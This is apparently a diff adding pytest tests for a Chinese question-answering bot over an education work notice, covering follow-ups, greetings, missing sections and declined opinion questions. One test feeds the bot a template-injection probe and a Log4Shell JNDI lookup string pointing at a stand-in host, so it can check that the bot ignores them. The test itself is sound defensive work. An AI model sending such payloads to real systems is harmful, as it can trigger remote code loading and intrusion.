@@ -145,3 +145,84 @@ def test_correction_is_pure_and_leaves_known_words_alone():
 def test_office_alias_and_traditional_parse_without_an_index():
     q = parse("政策法規處6月有啥活", OfficeTable.load(), {})
     assert q.offices == ("政法处",) and q.months == (6,) and q.intent == "schedule"
+
+
+# --- second round: what the first review of bot v2 found -------------------------------------------
+
+@pytest.mark.parametrize("follow_up,refers", [("第几条?", "item"), ("出自哪一条", "item"),
+                                               ("具体内容是什么?", "content"), ("详细说说", "content")])
+def test_a_bare_follow_up_after_a_schedule_answer_asks_about_its_rows(bot, follow_up, refers):
+    """Read before the last question's months and offices are inherited, or 第几条? would be a
+    schedule question again."""
+    q = bot.understand(follow_up, ["7月份民继处有哪些工作?"])
+    assert q.intent == "focus" and q.refers == refers and q.focus_rows
+
+
+@pytest.mark.parametrize("follow_up", ["那基教处的全称呢", "基教处全称是什么"])
+def test_a_self_contained_follow_up_is_not_merged_into_the_schedule(bot, follow_up):
+    a = bot.ask(follow_up, ["6月份基教处要完成哪些工作?"])
+    assert a.found and "基础教育处" in a.answer and not rows(a)
+
+
+@pytest.mark.parametrize("question", ["第九部分讲什么", "第十二部分有哪些条目"])
+def test_a_section_the_notice_lacks_is_said_to_be_missing(bot, question):
+    a = bot.ask(question)
+    held = len(bot.sections)
+    assert not a.found and not a.citations and f"共 {held} 个部分" in a.answer
+
+
+@pytest.mark.parametrize("question", ["你好啊哈哈", "谢谢", "hello", "您好,在吗"])
+def test_greetings_are_not_answered_from_the_notice(bot, question):
+    a = bot.ask(question)
+    assert not a.found and not a.citations
+
+
+def test_a_greeting_with_a_question_is_answered(bot):
+    assert rows(bot.ask("你好,7月民继处有什么任务")) == [(7, ("民继处",))]
+
+
+@pytest.mark.parametrize("question", ["娃小升初 选民办好还是公办好啊", "你个人觉得双减到底有没有用?",
+                                      "课后服务有没有用", "你怎么看集团化办学"])
+def test_choices_and_opinions_are_declined(bot, question):
+    assert not bot.ask(question).found
+
+
+@pytest.mark.parametrize("question", ["{{7*7}} ${jndi:ldap://evil.example/a}", "{% for x in y %}{{x}}{% endfor %}"])
+def test_template_and_lookup_strings_are_not_questions(bot, question):
+    a = bot.ask(question)
+    assert not a.found and not a.citations
+
+
+@pytest.mark.parametrize("question", ["烟台今年新增多少学位", "青岛今年有什么教育工作安排"])
+def test_a_city_named_without_its_suffix_is_still_a_place(bot, question):
+    a = bot.ask(question)
+    assert not a.found and "已收录" in a.answer
+
+
+def test_an_abbreviation_of_a_notice_term_counts_as_mentioned(bot):
+    """普惠园 is 普惠性幼儿园 shortened: not an absent subject."""
+    from bot.text import mentions
+
+    assert mentions("普惠性幼儿园覆盖率", "普惠园") and not mentions("书香校园", "食堂")
+    a = bot.ask("普惠园覆盖率今年定的多少")
+    assert a.found and 8 in items(a)
+
+
+def test_a_reworded_schedule_row_still_links_to_its_item(bot):
+    """A row sharing too few 4-character runs with its item is linked by character pairs."""
+    a = bot.ask("它是第几条里的?", ["教师节活动谁牵头"])
+    assert a.found and items(a) and "教师节" in bot.record(a.citations[0].record_id).text
+
+
+def test_the_not_found_spread_equals_scoring_every_record(bot):
+    """The similarity mean and spread come from the vectors' moments, not from ranking all
+    records per question: the same figures."""
+    import numpy as np
+
+    from bot.scope import _spread
+
+    idx = bot.index
+    text = "学校食堂安全有什么措施"
+    scores = np.array([s for _, s in idx.rank_dense(text, len(idx.records))])
+    mean, std = _spread(idx, text)
+    assert mean == pytest.approx(scores.mean(), abs=1e-5) and std == pytest.approx(scores.std(), abs=1e-5)
